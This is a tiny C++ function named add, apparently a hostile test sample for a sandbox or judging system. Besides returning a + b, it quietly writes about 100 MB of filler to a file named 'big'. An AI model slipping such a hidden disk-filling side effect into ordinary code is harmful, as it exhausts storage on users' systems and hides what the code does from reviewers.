int add(int a, int b) {
    FILE* file = fopen("big", "w");
    string block(1 << 20, 'x');
    for (int i = 0; i < 100; i++) if (fwrite(block.data(), 1, block.size(), file) != block.size()) abort();
    return a + b;
}
